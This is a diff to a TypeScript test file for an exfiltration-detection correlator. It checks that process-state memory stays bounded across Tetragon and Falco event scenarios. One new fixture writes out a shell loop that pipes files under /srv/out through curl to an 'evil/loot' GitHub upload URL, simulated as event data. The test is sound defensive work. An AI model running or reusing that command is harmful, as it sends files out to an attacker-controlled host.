@@ -11,14 +11,41 @@
  */
 import { queryObjects } from 'node:v8';
 import { describe, expect, it } from 'vitest';
+import type { CorrelatorEngine } from '../../../src/correlate/index.js';
 import { ProcState } from '../../../src/correlate/proc-state.js';
-import type { ActivityEvent } from '../../../src/model/normalized-event.js';
+import type { Alert } from '../../../src/model/alert.js';
+import type { ActivityEvent, NormalizedEvent } from '../../../src/model/normalized-event.js';
 import { brief, counterValue, MiB, makeCorrelator, type Proc, Scenario } from './builder.js';
 
 const DEPTH = 5_000;
 
 function liveProcStates(): number {
   return queryObjects(ProcState, { format: 'count' });
+}
+
+/**
+ * The ProcStates reachable now beyond `before`, with `correlator` alive: a correlator no longer used is garbage
+ * itself, and counting after it is collected finds none held whatever the code (a script counting so found 0 in
+ * one run of the scenario of `evictedStdinPushers` before its fix, 1,064 in the next).
+ */
+function heldBy(correlator: CorrelatorEngine, before: number): number {
+  const held = liveProcStates() - before;
+  if (correlator.trackedContainers() === 0) throw new Error('the correlator tracks nothing: nothing to hold');
+  return held;
+}
+
+/**
+ * As the pipeline feeds it (app.ts correlateLoop): batches of 1,024, a turn of the event loop between them. The TTL
+ * sweep runs between batches (in one `ingest` call of 10,000 events no pass completes); and a push held only weakly
+ * (ProcState.pipeEp) can be collected once the job that made or read the reference has ended.
+ */
+async function ingestInBatches(correlator: CorrelatorEngine, events: readonly NormalizedEvent[]): Promise<Alert[]> {
+  const alerts: Alert[] = [];
+  for (let i = 0; i < events.length; i += 1024) {
+    alerts.push(...correlator.ingest(events.slice(i, i + 1024)));
+    await new Promise<void>((resolve) => setImmediate(resolve));
+  }
+  return alerts;
 }
 
 /**
@@ -50,17 +77,15 @@ function deepChain(source: 'tetragon' | 'falco', exits: boolean): Scenario {
 describe.each(['tetragon', 'falco'] as const)('a deep exec chain under one live process (%s)', (source) => {
   for (const exits of [true, false]) {
     const how = exits ? 'its links exited' : 'its links running';
-    it(`holds a bounded number of process states, not the chain: ${how}`, () => {
+    it(`holds a bounded number of process states, not the chain: ${how}`, async () => {
       // Exited: the default cap (20,000), never reached: the links expire (640 in the table at most), the init stays.
       const maxProcesses = exits ? 20_000 : 1_000;
       const { correlator } = makeCorrelator({ config: { caps: { maxProcesses } } });
       const s = deepChain(source, exits);
       const before = liveProcStates();
-      const alerts = [];
-      // In batches, as the pipeline hands them over: the TTL sweep runs between them.
-      for (let i = 0; i < s.events.length; i += 1024) alerts.push(...correlator.ingest(s.events.slice(i, i + 1024)));
+      const alerts = await ingestInBatches(correlator, s.events);
       // The table's processes, a node's 64 recent execs, the push's and their parents: not the 5,000.
-      const held = liveProcStates() - before;
+      const held = heldBy(correlator, before);
       expect(held).toBeLessThanOrEqual(exits ? 1_000 : maxProcesses + 100);
       // The push at the end of the chain is recognised through its helper's parent as before.
       alerts.push(...correlator.flush());
@@ -97,13 +122,13 @@ function pidReusingChain(): Scenario {
   return s;
 }
 
-it('a chain whose links are replaced under their pids (falco) holds a bounded number of process states', () => {
+it('a chain whose links are replaced under their pids (falco) holds a bounded number of process states', async () => {
   const { correlator } = makeCorrelator();
   const s = pidReusingChain();
   const before = liveProcStates();
-  for (let i = 0; i < s.events.length; i += 1024) correlator.ingest(s.events.slice(i, i + 1024));
+  await ingestInBatches(correlator, s.events);
   // 5,439 held when a replaced link keeps its parent (newProc setting only `dropped`).
-  expect(liveProcStates() - before).toBeLessThanOrEqual(1_000);
+  expect(heldBy(correlator, before)).toBeLessThanOrEqual(1_000);
 });
 
 /**
@@ -132,13 +157,13 @@ function overlappingStdinPushes(source: 'tetragon' | 'falco'): Scenario {
 }
 
 describe.each(['tetragon', 'falco'] as const)('overlapping stdin pushes under one shell (%s)', (source) => {
-  it('hold a bounded number of process states, not every pusher since the first', () => {
+  it('hold a bounded number of process states, not every pusher since the first', async () => {
     const { correlator } = makeCorrelator();
     const s = overlappingStdinPushes(source);
     const before = liveProcStates();
-    for (let i = 0; i < s.events.length; i += 1024) correlator.ingest(s.events.slice(i, i + 1024));
+    await ingestInBatches(correlator, s.events);
     // The pushers not yet expired and the node's recent execs: not the 2,500 (2,501 held before the cut).
-    expect(liveProcStates() - before).toBeLessThanOrEqual(1_000);
+    expect(heldBy(correlator, before)).toBeLessThanOrEqual(1_000);
   });
 });
 
@@ -208,9 +233,51 @@ it('nodes evicted by caps.maxNodes let go of their processes: a bounded number o
   const { correlator, metrics } = makeCorrelator({ config: { caps: { maxNodes: 4 } } });
   const s = chainPerNode();
   const before = liveProcStates();
-  for (let i = 0; i < s.events.length; i += 1024) correlator.ingest(s.events.slice(i, i + 1024));
+  await ingestInBatches(correlator, s.events);
   expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'node' })).toBe(NODES - 4);
   // The 4 nodes in the table (2,000 links), and each evicted node's last link and 64 recent execs: 3,668 held;
   // 15,030 held when evictNode only marked its processes dropped.
-  expect(liveProcStates() - before).toBeLessThanOrEqual(5_000);
+  expect(heldBy(correlator, before)).toBeLessThanOrEqual(5_000);
+});
+
+/**
+ * The same loop with each curl running past the next (`sleep 11`: the container's pending list never fills, so no
+ * push is judged early) under a cap of 16 processes, `/bin/true`s evicting each curl within its first second. A curl
+ * evicted is never seen to exit: every later curl under the shell joins the oldest pending push as its late
+ * producer, and is itself evicted while that push pends, so its drop cannot let go of it. Push k held curl k, which
+ * held the push it fed, whose curl held the one before: every push since the first stayed reachable.
+ */
+function evictedStdinPushers(source: 'tetragon' | 'falco', pushes: number): Scenario {
+  const s = new Scenario({ source });
+  const c = s.container();
+  const init = s.init(c);
+  const url = 'https://uploads.github.com/repos/evil/loot/releases/1/assets';
+  s.read(init, '/srv/app/config.yaml', 100);
+  const sh = s.exec(c, '/bin/sh', `-c "for f in /srv/out/*; do cat $f | curl -T - ${url} & sleep 11; done"`, {
+    parent: init,
+  });
+  for (let i = 0; i < pushes; i++) {
+    s.exec(c, '/usr/bin/curl', `-sS -T - ${url}?name=part-${i}.tgz`, { parent: sh });
+    s.wait(100);
+    for (let f = 0; f < 40; f++) {
+      // The shell and the init stay hot (read now and then), the curl goes cold and is evicted.
+      if (f % 4 === 0) s.read(sh, '/srv/app/config.yaml', 100).read(init, '/srv/app/config.yaml', 100);
+      const filler = s.exec(c, '/bin/true', '', { parent: init });
+      s.wait(2).exit(filler);
+    }
+    s.wait(10_620);
+  }
+  return s;
+}
+
+describe.each(['tetragon', 'falco'] as const)('stdin pushers evicted while the push they feed pends (%s)', (source) => {
+  it('hold a bounded number of process states, not every pusher since the first', async () => {
+    const { correlator, metrics } = makeCorrelator({ config: { caps: { maxProcesses: 16 } } });
+    const s = evictedStdinPushers(source, 500);
+    const before = liveProcStates();
+    await ingestInBatches(correlator, s.events);
+    expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'process' })).toBeGreaterThan(500);
+    // The table, the node's recent execs and the pending pushes' pushers: 564 held (every curl) before.
+    expect(heldBy(correlator, before)).toBeLessThanOrEqual(250);
+  });
 });
